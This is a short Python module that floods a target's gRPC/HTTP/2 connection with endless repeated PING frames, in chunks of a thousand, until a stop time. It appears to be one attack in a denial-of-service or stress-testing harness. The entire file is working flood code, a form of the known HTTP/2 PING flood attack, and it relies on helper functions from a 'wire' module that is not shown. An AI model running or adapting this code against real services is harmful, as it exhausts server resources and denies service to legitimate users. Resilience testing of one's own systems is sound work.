"""PING frames as fast as possible."""

import itertools

from wire import PING, PREFACE, flood_connection, frame, settings


def flood(target, until):
    chunk = frame(PING, payload=bytes(8)) * 1_000
    return flood_connection(target.grpc, until, PREFACE + settings(), lambda: itertools.repeat(chunk))
